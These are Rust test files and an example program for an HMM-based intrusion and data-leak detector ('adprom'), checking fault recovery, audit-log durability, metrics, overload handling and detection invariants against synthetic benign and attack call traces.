    std::fs::create_dir_all(&dir).expect("temp dir");
    dir.join(format!(
        "{tag}-{}-{}",
        std::process::id(),
        NEXT.fetch_add(1, Ordering::Relaxed)
    ))
}

/// The cyclic a→b→c toy profile the unit tests use — cheap enough for
/// proptest to save/load hundreds of times.
fn tiny_profile() -> Profile {
    use adprom::core::Alphabet;
    let alphabet = Alphabet::new(vec!["a".to_string(), "b".to_string(), "c_Q7".to_string()]);
    let m = alphabet.len();
    let mut a = vec![vec![0.001; m]; m];
    a[0][1] = 1.0;
    a[1][2] = 1.0;
    a[2][0] = 1.0;
    a[3][3] = 1.0;
    let mut b = vec![vec![0.001; m]; m];
    for (i, row) in b.iter_mut().enumerate() {
        row[i] = 1.0;
    }
    let pi = vec![1.0; m];
    let mut hmm = Hmm::from_rows(a, b, pi);
    hmm.smooth(1e-4);
    let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for name in ["a", "b", "c_Q7"] {
        call_callers
            .entry(name.to_string())
            .or_default()
            .insert("main".to_string());
    }
    Profile {
        app_name: "cyclic".into(),
        alphabet,
        hmm,
        window: 3,
        threshold: -5.0,
        call_callers,
        labeled_outputs: vec!["c_Q7".to_string()],
    }
}

#[test]
fn banking_under_faults_matches_fault_free_run() {
    quiet_injected_panics();
    let workload = banking::workload(30, 2);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = 12;
    let (profile, _) = build_profile("App_b", &analysis, &traces, &config);

    // The monitored batch: every test case plus the Fig. 2 injection.
    let mut batch: Vec<_> = workload
        .test_cases
        .iter()
        .map(|case| workload.run_case(case, &analysis.site_labels))
        .collect();
    batch.push(workload.run_case(&banking::injection_case(), &analysis.site_labels));
    let sessions: Vec<String> = (0..batch.len()).map(|i| format!("conn-{i}")).collect();

    // Fault-free baseline, serial reference order.
    let baseline = BatchDetector::new(&profile).detect_sessions(&sessions, &batch);

    // ---- Fault run -------------------------------------------------------
    let registry = Registry::new();
    let health = HealthMonitor::with_registry(&registry);
    let injector = FaultPlan::new(42)
        .inject(
            sites::INGEST_CORRUPT,
            FaultKind::CorruptEvent,
            Trigger::OnceForKeys([2u64].into()),
        )
        .inject(
            sites::WORKER_PANIC,
            FaultKind::Panic,
            Trigger::OnceForKeys([0u64, 3].into()),
        )
        .arm();

    // Ingest hardening: the corrupt trace is quarantined, not scored.
    let mut faulty = batch.clone();
    let applied = adprom::core::apply_ingest_faults(&injector, &mut faulty);
    assert_eq!(applied, 1, "exactly one trace corrupted");
    let screened = TraceValidator::new()
        .with_registry(&registry)
        .screen(&sessions, &faulty);
    assert_eq!(screened.quarantined.len(), 1);
    assert_eq!(screened.quarantined[0].index, 2);
    assert!(!screened.kept_indices.contains(&2));

    // Crash-safe audit behind the detector.
    let wal = temp_path("audit");
    let (sink, report) = DurableAuditSink::open(&wal).expect("open WAL");
    assert_eq!(report.valid_records, 0);
    let audit = Arc::new(AuditLog::new(Arc::new(sink)));

    let detector = BatchDetector::new(&profile)
        .with_registry(&registry)
        .with_health(health.clone())
        .with_audit(Arc::clone(&audit))
        .with_faults(&injector);
    let reports = detector.detect_sessions(&screened.sessions, &screened.traces);

    // Both injected panics were retried and recovered.
    assert_eq!(injector.injected(sites::WORKER_PANIC), 2);
    assert_eq!(reports[0].status, TraceStatus::Recovered(1));
    assert_eq!(reports[3].status, TraceStatus::Recovered(1));
    assert_eq!(health.state(), Health::Degraded);

    // Every non-quarantined trace gets the verdict of the fault-free run.
    assert_eq!(reports.len(), screened.kept_indices.len());
    for (report, &orig) in reports.iter().zip(&screened.kept_indices) {
        assert_eq!(report.alerts, baseline[orig].alerts, "trace {orig}");
        assert_eq!(report.verdict, baseline[orig].verdict, "trace {orig}");
    }

    let snap = registry.snapshot();
    assert_eq!(snap.counter("ingest.traces_quarantined"), Some(1));
    assert_eq!(snap.counter("resilience.traces_recovered"), Some(2));
    assert_eq!(snap.counter("resilience.traces_failed"), Some(0));
    assert_eq!(snap.gauge("health.state"), Some(1));

    // ---- Torn-tail recovery ----------------------------------------------
    // A crash mid-write leaves a partial frame; reopening must truncate it
    // and lose nothing written before the tear.
    let before = DurableAuditSink::read_records(&wal).expect("read WAL");
    assert!(
        !before.is_empty(),
        "the injection case must have produced audit records"
    );
    use std::io::Write as _;
    let mut file = std::fs::OpenOptions::new()
        .append(true)
        .open(&wal)
        .expect("append garbage");
    file.write_all(b"0000001a deadbeef {\"torn").expect("tear");
    drop(file);

    let (reopened, report) = DurableAuditSink::open(&wal).expect("reopen WAL");
    assert!(report.torn, "tear detected");
    assert!(report.truncated_bytes > 0);
    assert_eq!(report.valid_records, before.len() as u64);
    drop(reopened);
    assert_eq!(
        DurableAuditSink::read_records(&wal).expect("reread"),
        before
    );
}

#[test]
fn degraded_mode_dense_fallback_is_bit_identical_to_dense() {
    // Break row-stochasticity (finite drift, so scoring still works):
    // CSR validation must refuse the sparse build and fall back.
    let mut profile = tiny_profile();
    profile.hmm.a_row_mut(0)[0] += 0.25;
    let event = |name: &str| adprom::trace::CallEvent {
        name: name.into(),
        call: adprom::lang::LibCall::Printf,
        caller: "main".into(),
        site: adprom::lang::CallSiteId(0),
        detail: None,
    };
    let batch = vec![
        vec![event("a"), event("b"), event("c_Q7"), event("a")],
        vec![event("b"), event("b"), event("a")],
    ];

    let degraded = BatchDetector::new(&profile).with_kernel(KernelConfig::Sparse {
        sparse: SparseConfig::default(),
    });
    assert_eq!(degraded.kernel_label(), "dense");
    let reason = degraded.kernel_fallback().expect("downgrade surfaced");
    assert!(reason.contains("dense"), "{reason}");

    let dense = BatchDetector::new(&profile);
    assert_eq!(dense.detect_batch(&batch), degraded.detect_batch(&batch));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Any single corrupted byte of a saved profile must be rejected at
    /// load time — the envelope CRC (or header/JSON parse) catches it.
    /// Never a panic, never a silently-corrupt profile.
    #[test]
    fn profile_load_rejects_any_single_byte_corruption(
        pos in 0usize..4096,
        flip in 1u8..=255,
    ) {
        let path = temp_path("profile");
        tiny_profile().save(&path).expect("save profile");
        let mut bytes = std::fs::read(&path).expect("read profile");
        let pos = pos % bytes.len();
        bytes[pos] ^= flip;
        std::fs::write(&path, &bytes).expect("rewrite profile");
        prop_assert!(Profile::load(&path).is_err(), "byte {pos} ^ {flip:#x} accepted");
        let _ = std::fs::remove_file(&path);
    }

    /// Any single corrupted byte of the audit WAL must leave recovery with
    /// a clean prefix of the original records: the reader never panics,
    /// never yields a record that was not written, and every record before
    /// the corrupted frame survives.
    #[test]
    fn audit_recovery_yields_clean_prefix_under_any_byte_corruption(
        pos in 0usize..8192,
        flip in 1u8..=255,
    ) {
        let path = temp_path("wal");
        let (sink, _) = DurableAuditSink::open(&path).expect("open WAL");
        let originals: Vec<AuditRecord> = (0..4)
            .map(|i| AuditRecord {
                seq: i,
                app: String::new(),
                session: format!("conn-{i}"),
                epoch: 0,
                flag: "ANOMALOUS".to_string(),
                window: vec!["a".to_string(), "b".to_string()],
                log_likelihood: -12.5 - i as f64,
                threshold: -5.0,
                detail: "prop".to_string(),
                kernel: "dense".to_string(),
                label: None,
                bid: None,
                forensics: None,
                tier: None,
                escalation: None,
                gap_bound_micronats: None,
            })
            .collect();
        for record in &originals {
            sink.append(record);
        }
        drop(sink);

        let mut bytes = std::fs::read(&path).expect("read WAL");
        let pos = pos % bytes.len();
        bytes[pos] ^= flip;
        std::fs::write(&path, &bytes).expect("rewrite WAL");

        let report = DurableAuditSink::recover(&path).expect("recover");
        prop_assert!(report.valid_records < originals.len() as u64,
            "corruption at byte {pos} went undetected");
        let survivors = DurableAuditSink::read_records(&path).expect("read back");
        prop_assert_eq!(survivors.len() as u64, report.valid_records);
        prop_assert_eq!(&survivors[..], &originals[..survivors.len()]);
        let _ = std::fs::remove_file(&path);
    }
}
