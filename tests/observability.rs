//! End-to-end observability: on the banking attack workload, every
//! non-Normal detection must land in the structured audit log as a JSONL
//! record that round-trips through serde and reproduces the engine's flag,
//! and the metrics registry must account for every window scored.

use adprom::analysis::analyze;
use adprom::core::{build_profile, BatchDetector, ConstructorConfig, DetectionEngine, Flag};
use adprom::obs::{AuditLog, AuditRecord, MemoryAuditSink, MetricsSnapshot, Registry};
use adprom::workloads::banking;
use std::sync::Arc;

#[test]
fn banking_attack_audit_records_roundtrip_and_reproduce_flags() {
    let workload = banking::workload(30, 2);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);

    let registry = Registry::new();
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = 12;
    config.registry = registry.clone();
    let (profile, _) = build_profile("App_b", &analysis, &traces, &config);

    let sink = Arc::new(MemoryAuditSink::new());
    let audit = Arc::new(AuditLog::new(sink.clone()));
    let mut engine = DetectionEngine::new(&profile)
        .with_registry(&registry)
        .with_audit(audit);
    engine.set_session("teller-7");

    // The Fig. 2 tautology injection: pure input, unmodified binary.
    let attack_trace = workload.run_case(&banking::injection_case(), &analysis.site_labels);
    let alerts = engine.scan(&attack_trace);
    let alarms: Vec<_> = alerts.iter().filter(|a| a.is_alarm()).collect();
    assert!(
        alarms.iter().any(|a| a.flag == Flag::DataLeak),
        "the injection must produce at least one DATA-LEAK window"
    );

    // One audit record per non-Normal detection, in scan order, with
    // sequence numbers assigned by the log.
    let records = sink.records();
    assert_eq!(records.len(), alarms.len());
    for (i, (record, alert)) in records.iter().zip(&alarms).enumerate() {
        assert_eq!(record.seq, i as u64);
        assert_eq!(record.session, "teller-7");
        assert_eq!(record.flag, alert.flag.to_string(), "flag reproduced");
        assert_eq!(record.window, alert.window);
        assert_eq!(record.log_likelihood, alert.log_likelihood);
        assert_eq!(record.threshold, alert.threshold);
        if alert.flag == Flag::DataLeak {
            let label = record.label.as_deref().expect("leak records carry a label");
            assert!(label.contains("_Q"));
            let bid = record
                .bid
                .as_deref()
                .expect("leak records carry a block id");
            assert!(label.ends_with(bid));
        }

        // Serde round-trip: the JSONL line re-parses to the same record.
        let line = record.to_jsonl();
        let parsed = AuditRecord::from_jsonl(&line).expect("audit JSONL parses");
        assert_eq!(&parsed, record);
    }

    // The registry accounted for training and for every window scored.
    let snap = registry.snapshot();
    let scored = snap.counter("detect.windows_scored").unwrap();
    assert_eq!(scored, alerts.len() as u64);
    let by_flag: u64 = [
        "detect.flags.normal",
        "detect.flags.anomalous",
        "detect.flags.data_leak",
        "detect.flags.out_of_context",
    ]
    .iter()
    .map(|name| snap.counter(name).unwrap())
    .sum();
    assert_eq!(by_flag, scored);
    assert_eq!(
        snap.counter("detect.flags.data_leak").unwrap(),
        alarms.iter().filter(|a| a.flag == Flag::DataLeak).count() as u64
    );
    assert!(snap.counter("train.iterations").unwrap() >= 1);
    assert_eq!(snap.histograms["detect.score_ns"].count, scored);

    // The snapshot itself round-trips through its JSON exposition.
    let reparsed = MetricsSnapshot::from_json(&snap.to_json()).expect("snapshot JSON parses");
    assert_eq!(reparsed.counters, snap.counters);

    // Same workload through the batched path: session ids flow into the
    // reports and into a fresh audit trail.
    let batch_sink = Arc::new(MemoryAuditSink::new());
    let detector =
        BatchDetector::new(&profile).with_audit(Arc::new(AuditLog::new(batch_sink.clone())));
    let sessions = vec!["teller-7".to_string()];
    let reports = detector.detect_sessions(&sessions, &[attack_trace]);
    assert_eq!(reports[0].session.as_deref(), Some("teller-7"));
    assert_ne!(reports[0].verdict, Flag::Normal);
    let batch_records = batch_sink.records();
    assert_eq!(batch_records.len(), records.len());
    assert!(batch_records.iter().all(|r| r.session == "teller-7"));
}
