//! The overload-control contract, end to end: a monitor running with a
//! hard ingest bound and a scoring budget far below its load must (1)
//! never hold more than `capacity` events buffered, (2) never lose an
//! alarm the unconstrained monitor would have raised — the starvation
//! floor: any session that alarms is escalated to and pinned at the full
//! tier — and (3) make every tier, shed, and audit decision on the
//! serial ingest clock, so histories are bit-identical at any thread
//! count.

use adprom::core::{
    Alphabet, KernelConfig, MonitorRuntime, OverloadConfig, Profile, ProfileRegistry,
    RuntimeConfig, ScoringMode, ScoringTier, SessionEnd, SessionReport, ShedPolicy,
};
use adprom::hmm::{BeamConfig, Hmm, SparseConfig};
use adprom::lang::{CallSiteId, LibCall};
use adprom::obs::{AuditLog, AuditRecord, MemoryAuditSink, Registry};
use adprom::trace::{interleave, CallEvent, TaggedCall};
use proptest::prelude::*;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

fn event(name: &str, caller: &str) -> CallEvent {
    CallEvent {
        name: name.into(),
        call: LibCall::Printf,
        caller: caller.into(),
        site: CallSiteId(0),
        detail: None,
    }
}

/// The cyclic a→b→c toy profile, parameterized by app name and threshold.
fn cyclic_profile(app: &str, threshold: f64) -> Profile {
    let alphabet = Alphabet::new(vec!["a".to_string(), "b".to_string(), "c_Q7".to_string()]);
    let m = alphabet.len();
    let mut a = vec![vec![0.001; m]; m];
    a[0][1] = 1.0;
    a[1][2] = 1.0;
    a[2][0] = 1.0;
    a[3][3] = 1.0;
    let mut b = vec![vec![0.001; m]; m];
    for (i, row) in b.iter_mut().enumerate() {
        row[i] = 1.0;
    }
    let pi = vec![1.0; m];
    let mut hmm = Hmm::from_rows(a, b, pi);
    hmm.smooth(1e-4);
    let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for name in ["a", "b", "c_Q7"] {
        call_callers
            .entry(name.to_string())
            .or_default()
            .insert("main".to_string());
    }
    Profile {
        app_name: app.into(),
        alphabet,
        hmm,
        window: 3,
        threshold,
        call_callers,
        labeled_outputs: vec!["c_Q7".to_string()],
    }
}

/// One random session trace: 1–11 calls drawn from the alphabet plus an
/// out-of-vocabulary name, some issued by an untrained caller.
fn arb_trace() -> impl Strategy<Value = Vec<CallEvent>> {
    const NAMES: [&str; 4] = ["a", "b", "c_Q7", "evil_exfil"];
    prop::collection::vec((0usize..NAMES.len(), any::<bool>()), 1..12).prop_map(|calls| {
        calls
            .into_iter()
            .map(|(pick, attacker)| {
                event(
                    NAMES[pick],
                    if attacker {
                        "attacker_function"
                    } else {
                        "main"
                    },
                )
            })
            .collect()
    })
}

/// Random multi-app session sets: 1–3 sessions each for two apps.
fn arb_sessions() -> impl Strategy<Value = Vec<(String, String, Vec<CallEvent>)>> {
    (
        prop::collection::vec(arb_trace(), 1..4),
        prop::collection::vec(arb_trace(), 1..4),
    )
        .prop_map(|(bank, shop)| {
            let mut sessions = Vec::new();
            for (i, trace) in bank.into_iter().enumerate() {
                sessions.push(("bank".to_string(), format!("b-{i}"), trace));
            }
            for (i, trace) in shop.into_iter().enumerate() {
                sessions.push(("shop".to_string(), format!("s-{i}"), trace));
            }
            sessions
        })
}

/// A two-app registry on the sparse kernel, so demoted tiers exercise the
/// real beam-pruned recurrence (and its gap bound), not just spot checks.
fn sparse_registry() -> Arc<ProfileRegistry> {
    let registry = ProfileRegistry::new().with_kernel(KernelConfig::Sparse {
        sparse: SparseConfig::default(),
    });
    registry
        .register("bank", cyclic_profile("bank", -5.0))
        .unwrap();
    registry
        .register("shop", cyclic_profile("shop", -1.0))
        .unwrap();
    Arc::new(registry)
}

/// A starved tier schedule: scoring budget of two events per flush against
/// a hard three-event ingest bound, with an aggressive beam and a sparse
/// spot cadence — nearly every session is demoted on nearly every flush.
fn starved_overload(shed_policy: ShedPolicy, capacity: usize) -> OverloadConfig {
    OverloadConfig {
        capacity,
        shed_policy,
        budget: 2,
        spot_every: 2,
        beam: BeamConfig {
            top_k: Some(2),
            mass_epsilon: 0.0,
        },
    }
}

fn run_overloaded(
    stream: &[TaggedCall],
    threads: usize,
    overload: OverloadConfig,
) -> (Vec<SessionReport>, Vec<AuditRecord>, Registry) {
    let obs = Registry::new();
    let sink = Arc::new(MemoryAuditSink::new());
    let audit = Arc::new(AuditLog::new(sink.clone()));
    let mut runtime = MonitorRuntime::new(sparse_registry())
        .with_threads(threads)
        .with_registry(&obs)
        .with_audit(audit)
        .with_config(RuntimeConfig {
            mode: ScoringMode::Incremental,
            overload,
            ..RuntimeConfig::default()
        });
    runtime.ingest_stream(stream);
    (runtime.finish(), sink.records(), obs)
}

/// The multiset of alarm windows in one report — the recall currency: an
/// overloaded run may alarm *more* (lower-bound classification), never
/// less.
fn alarm_windows(report: &SessionReport) -> Vec<Vec<String>> {
    let mut windows: Vec<Vec<String>> = report.alarms().map(|a| a.window.clone()).collect();
    windows.sort();
    windows
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// The starvation-floor contract. For every random interleaving, an
    /// overloaded backpressure monitor (budget 2, capacity 3) at threads
    /// ∈ {1, 4, 8}:
    ///
    /// * raises every alarm window of the unconstrained baseline
    ///   (per-session multiset superset — recall 1.0),
    /// * pins every alarmed session at the full tier by stream end,
    /// * keeps the buffered-queue high-water at or under the hard bound,
    /// * and produces bit-identical reports, tier histories, and audit
    ///   rows at every thread count.
    #[test]
    fn overload_keeps_recall_and_tier_histories_are_thread_deterministic(
        sessions in arb_sessions(),
        seed in any::<u64>(),
    ) {
        let stream = interleave(&sessions, seed);

        // Unconstrained baseline: same kernel and mode, tier ladder
        // disarmed (budget 0), serial.
        let (baseline, _, _) =
            run_overloaded(&stream, 1, OverloadConfig::default());
        let expected: BTreeMap<(String, String), Vec<Vec<String>>> = baseline
            .iter()
            .map(|r| ((r.app.clone(), r.session.clone()), alarm_windows(r)))
            .collect();

        let mut reference: Option<(String, Vec<AuditRecord>)> = None;
        for threads in [1usize, 4, 8] {
            let (reports, records, obs) =
                run_overloaded(&stream, threads, starved_overload(ShedPolicy::Backpressure, 3));
            prop_assert_eq!(reports.len(), sessions.len(), "threads {}", threads);

            let high_water = obs.snapshot().gauge("monitor.queue.depth").unwrap_or(0);
            prop_assert!(
                high_water <= 3,
                "queue high-water {} breached capacity (threads {})",
                high_water, threads
            );

            for report in &reports {
                prop_assert_eq!(&report.end, &SessionEnd::Finished);
                let base = &expected[&(report.app.clone(), report.session.clone())];
                let got = alarm_windows(report);
                // Multiset superset: every baseline alarm window is still
                // alarmed under overload.
                let mut remaining = got.clone();
                for window in base {
                    let Some(pos) = remaining.iter().position(|w| w == window) else {
                        prop_assert!(
                            false,
                            "{}/{} lost alarm window {:?} under overload (threads {})",
                            report.app, report.session, window, threads
                        );
                        unreachable!()
                    };
                    remaining.swap_remove(pos);
                }
                if !got.is_empty() {
                    prop_assert_eq!(
                        report.tier, ScoringTier::Full,
                        "{}/{}: alarmed sessions are pinned at full (threads {})",
                        report.app, report.session, threads
                    );
                }
            }

            // Every audit row of an overloaded run carries its tier
            // provenance.
            for record in &records {
                prop_assert!(record.tier.is_some(), "audit row missing tier");
                prop_assert!(record.gap_bound_micronats.is_some());
            }

            let rendered = format!("{reports:?}");
            match &reference {
                None => reference = Some((rendered, records)),
                Some((expected_reports, expected_records)) => {
                    prop_assert_eq!(&rendered, expected_reports, "threads {}", threads);
                    prop_assert_eq!(&records, expected_records, "threads {}", threads);
                }
            }
        }
    }
}

/// DropNewest under sustained pressure: benign traffic of demoted
/// sessions is shed (visibly counted), dangerous facts and alarmed
/// sessions never are — the attack keeps its alarm — and the whole
/// schedule of sheds, tiers, and verdicts rides the serial ingest clock:
/// identical at any thread count.
#[test]
fn drop_newest_sheds_deterministically_and_never_drops_the_attack() {
    let mut sessions: Vec<(String, String, Vec<CallEvent>)> = (0..6)
        .map(|i| {
            let trace = ["a", "b", "c_Q7"]
                .iter()
                .cycle()
                .take(12)
                .map(|n| event(n, "main"))
                .collect();
            ("bank".to_string(), format!("s-{i}"), trace)
        })
        .collect();
    sessions.push((
        "bank".to_string(),
        "s-attack".to_string(),
        vec![
            event("a", "main"),
            event("evil_exfil", "main"),
            event("c_Q7", "main"),
            event("a", "main"),
        ],
    ));
    let stream = interleave(&sessions, 0x0E44);

    let mut reference: Option<(String, u64)> = None;
    for threads in [1usize, 4, 8] {
        let (reports, _, obs) = run_overloaded(
            &stream,
            threads,
            starved_overload(ShedPolicy::DropNewest, 6),
        );
        let snap = obs.snapshot();
        let shed = snap.counter("monitor.shed.events").unwrap_or(0);
        assert!(shed > 0, "sustained pressure must shed (threads {threads})");
        assert!(snap.gauge("monitor.queue.depth").unwrap_or(0) <= 6);

        let attack = reports
            .iter()
            .find(|r| r.session == "s-attack")
            .expect("attack session reported");
        assert!(
            attack.alarms().count() >= 1,
            "the exfiltration alarm survived shedding (threads {threads})"
        );
        assert_eq!(attack.tier, ScoringTier::Full, "alarmed ⇒ pinned full");

        let rendered = format!("{reports:?}");
        match &reference {
            None => reference = Some((rendered, shed)),
            Some((expected, expected_shed)) => {
                assert_eq!(&rendered, expected, "threads {threads}");
                assert_eq!(shed, *expected_shed, "threads {threads}");
            }
        }
    }
}
