//! Property-based tests over the core invariants, driven by proptest.

use adprom::analysis::{analyze, CallLabel};
use adprom::core::{strip_label, Alphabet, BatchDetector, DetectionEngine, Profile, ScoringMode};
use adprom::db::{Database, Value};
use adprom::hmm::{log_likelihood, Hmm};
use adprom::lang::{parse_program, pretty_program, CallSiteId, LibCall};
use adprom::trace::{sliding_windows, CallEvent};
use adprom::workloads::sir::{generate_program, SirSpec};
use proptest::prelude::*;
use std::collections::BTreeMap;

fn arb_spec() -> impl Strategy<Value = SirSpec> {
    (1usize..6, 1usize..5, 0usize..4, 0.0f64..1.0, any::<u64>()).prop_map(
        |(funcs, labeled, plain, branch, seed)| SirSpec {
            name: "prop".into(),
            n_functions: funcs,
            labeled_sites_per_function: labeled,
            plain_calls_per_function: plain,
            branch_prob: branch,
            seed,
            test_cases: 0,
            inputs_per_case: 0,
        },
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// The three pCTM properties the paper states (§IV-C3) hold for every
    /// generated program: ε row sums to 1, ε′ column sums to 1, and flow is
    /// conserved at every call.
    #[test]
    fn pctm_invariants_hold_for_generated_programs(spec in arb_spec()) {
        let prog = generate_program(&spec);
        let analysis = analyze(&prog);
        let pctm = &analysis.pctm;
        prop_assert!((pctm.entry_row_sum() - 1.0).abs() < 1e-6,
            "entry row sum {}", pctm.entry_row_sum());
        prop_assert!((pctm.exit_col_sum() - 1.0).abs() < 1e-6,
            "exit col sum {}", pctm.exit_col_sum());
        for label in pctm.labels().to_vec() {
            if !label.is_virtual() {
                prop_assert!(pctm.flow_imbalance(&label) < 1e-6,
                    "imbalance at {label}");
            }
        }
        // Aggregation removed every user label.
        prop_assert!(pctm.user_labels().is_empty());
    }

    /// Pretty-printing is a fixpoint: parse(pretty(p)) pretty-prints
    /// identically.
    #[test]
    fn pretty_print_round_trips(spec in arb_spec()) {
        let prog = generate_program(&spec);
        let text = pretty_program(&prog);
        let reparsed = parse_program(&text).expect("generated programs re-parse");
        prop_assert_eq!(pretty_program(&reparsed), text);
    }

    /// All sliding windows have length min(n, len) and cover the trace.
    #[test]
    fn sliding_windows_cover(names in prop::collection::vec("[a-z]{1,6}", 0..80),
                             n in 1usize..20) {
        let names: Vec<String> = names;
        let windows = sliding_windows(&names, n);
        if names.is_empty() {
            prop_assert!(windows.is_empty());
        } else if names.len() <= n {
            prop_assert_eq!(windows.len(), 1);
            prop_assert_eq!(&windows[0], &names);
        } else {
            prop_assert_eq!(windows.len(), names.len() - n + 1);
            prop_assert!(windows.iter().all(|w| w.len() == n));
            // First and last elements covered.
            prop_assert_eq!(&windows[0][0], &names[0]);
            prop_assert_eq!(
                windows.last().unwrap().last().unwrap(),
                names.last().unwrap()
            );
        }
    }

    /// Alphabet encoding round-trips for in-vocabulary labels and maps
    /// everything else to <unk>.
    #[test]
    fn alphabet_encode_decode(labels in prop::collection::vec("[a-zA-Z_]{1,10}", 1..30),
                              probe in "[a-zA-Z_]{1,10}") {
        let alphabet = Alphabet::new(labels.clone());
        for l in &labels {
            prop_assert_eq!(alphabet.decode(alphabet.encode(l)), l.as_str());
        }
        let id = alphabet.encode(&probe);
        if labels.contains(&probe) {
            prop_assert!(id < alphabet.unknown());
        } else {
            prop_assert_eq!(id, alphabet.unknown());
        }
    }

    /// strip_label removes exactly the `_Q<digits>` decoration.
    #[test]
    fn strip_label_is_idempotent(base in "[a-z]{1,8}", bid in 0u32..10000) {
        let labeled = format!("{base}_Q{bid}");
        prop_assert_eq!(strip_label(&labeled), base.as_str());
        prop_assert_eq!(strip_label(strip_label(&labeled)), base.as_str());
        prop_assert_eq!(strip_label(&base), base.as_str());
    }

    /// Random (seeded) HMMs are valid and forward log-likelihoods of valid
    /// sequences are finite and ≤ 0 in expectation terms.
    #[test]
    fn random_hmm_scores_are_finite(n in 1usize..8, m in 1usize..8,
                                    seed in any::<u64>(), len in 1usize..40) {
        let hmm = Hmm::random(n, m, seed);
        hmm.validate().expect("stochastic");
        let obs = hmm.sample(len, seed ^ 0x5EED);
        let ll = log_likelihood(&hmm, &obs);
        prop_assert!(ll.is_finite());
        prop_assert!(ll <= 1e-9, "log-likelihood {ll} must be non-positive");
    }

    /// LIKE pattern matching agrees with a regex-free oracle on simple
    /// wildcardless patterns, and `%` always matches when pattern == "%".
    #[test]
    fn sql_like_semantics(text in "[a-c]{0,8}") {
        let mut db = Database::new("p");
        db.execute("CREATE TABLE t (s TEXT)").unwrap();
        db.execute_with_params("INSERT INTO t VALUES ($1)", &[Value::Text(text.as_str().into())])
            .unwrap();
        // Exact pattern ⇔ equality.
        let r = db
            .execute_with_params("SELECT COUNT(*) FROM t WHERE s LIKE $1",
                                 &[Value::Text(text.as_str().into())])
            .unwrap();
        assert_eq!(r.rows().unwrap().get_value(0, 0).unwrap(), "1");
        // Universal pattern.
        let r = db
            .execute("SELECT COUNT(*) FROM t WHERE s LIKE '%'")
            .unwrap();
        assert_eq!(r.rows().unwrap().get_value(0, 0).unwrap(), "1");
    }

    /// The parallel batch detector in ExactWindows mode is byte-identical
    /// to a serial DetectionEngine loop: same alerts (including exact
    /// floating-point scores), same order, for arbitrary batches against
    /// arbitrary profiles.
    #[test]
    fn batch_detector_matches_serial_engine(
        seed in any::<u64>(),
        window in 1usize..6,
        threshold in -60.0f64..0.0,
        traces in prop::collection::vec(prop::collection::vec(0usize..6, 0..30), 0..12),
    ) {
        // Two names are outside the profile alphabet (score via <unk>),
        // two carry data-flow labels (exercise the DataLeak upgrade).
        let names = ["a", "b", "c_Q7", "d", "evil", "x_Q2"];
        let alphabet = Alphabet::new(vec![
            "a".to_string(), "b".to_string(), "c_Q7".to_string(), "d".to_string(),
        ]);
        let mut hmm = Hmm::random(alphabet.len(), alphabet.len(), seed);
        hmm.smooth(1e-4);
        let profile = Profile {
            app_name: "prop".into(),
            alphabet,
            hmm,
            window,
            threshold,
            call_callers: BTreeMap::new(),
            labeled_outputs: vec!["c_Q7".to_string(), "x_Q2".to_string()],
        };
        let batch: Vec<Vec<CallEvent>> = traces
            .iter()
            .map(|t| {
                t.iter()
                    .map(|&i| CallEvent {
                        name: names[i].into(),
                        call: LibCall::Printf,
                        caller: "main".into(),
                        site: CallSiteId(0),
                        detail: None,
                    })
                    .collect()
            })
            .collect();

        let reports = BatchDetector::new(&profile).detect_batch(&batch);
        let engine = DetectionEngine::new(&profile);
        prop_assert_eq!(reports.len(), batch.len());
        for (i, trace) in batch.iter().enumerate() {
            prop_assert_eq!(reports[i].index, i);
            let serial = engine.scan(trace);
            prop_assert_eq!(&reports[i].alerts, &serial, "trace {}", i);
            // Debug formatting round-trips every f64 digit: equal strings
            // mean bit-identical scores, not approximately-equal ones.
            prop_assert_eq!(format!("{:?}", reports[i].alerts), format!("{serial:?}"));
        }

        // Incremental mode must agree on the window partitioning even
        // though its scores are conditional.
        let incremental = BatchDetector::new(&profile)
            .with_mode(ScoringMode::Incremental)
            .detect_batch(&batch);
        for (e, inc) in reports.iter().zip(&incremental) {
            prop_assert_eq!(e.alerts.len(), inc.alerts.len());
        }
    }

    /// Every Lib label the analyzer produces strips back to a known library
    /// call name.
    #[test]
    fn analyzer_labels_strip_to_known_calls(spec in arb_spec()) {
        let prog = generate_program(&spec);
        let analysis = analyze(&prog);
        for label in analysis.pctm.labels() {
            if let CallLabel::Lib(name) = label {
                let base = strip_label(name);
                prop_assert!(
                    adprom::lang::LibCall::from_name(base).is_some(),
                    "label {name} does not strip to a library call"
                );
            }
        }
    }
}
