//! Forensics: why data-flow labels matter (attack 3 vs CMarkov).
//!
//! Attack 3 *reuses an existing print command* — the attacker only swaps
//! the arguments of a constant `puts`/`printf` so it emits a query-result
//! field. The call sequence is byte-for-byte identical, so a purely
//! sequence-based detector (CMarkov) sees nothing. AD-PROM's DDG labeling
//! renames the now-tainted site to `printf_Q<bid>`, the observation changes,
//! and the alert carries the block id — connecting the leak to its source.
//!
//! ```text
//! cargo run --release --example data_leak_forensics
//! ```

use adprom::analysis::analyze;
use adprom::attacks::attack3_reuse_print;
use adprom::core::{build_cmarkov, build_profile, ConstructorConfig, DetectionEngine, Flag};
use adprom::workloads::{banking, Workload};

fn main() {
    println!("== attack 3 forensics: AD-PROM vs CMarkov on App_b ==\n");
    let workload = banking::workload(40, 23);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let config = ConstructorConfig::default();

    let (adprom_profile, _) = build_profile("App_b", &analysis, &traces, &config);
    let (cmarkov_profile, _) = build_cmarkov("App_b", &analysis, &traces, &config);

    // The attacker rewires an existing constant print to emit the TD.
    let attack = attack3_reuse_print(&workload.program).expect("App_b has a reusable print");
    println!("{}\n", attack.description);

    let attacked = Workload {
        name: workload.name.clone(),
        dbms: workload.dbms,
        program: attack.program,
        make_db: banking::make_db,
        test_cases: workload.test_cases.clone(),
    };
    // Detection-time instrumentation re-analyzes the modified binary.
    let attacked_analysis = analyze(&attacked.program);

    let adprom_engine = DetectionEngine::new(&adprom_profile);
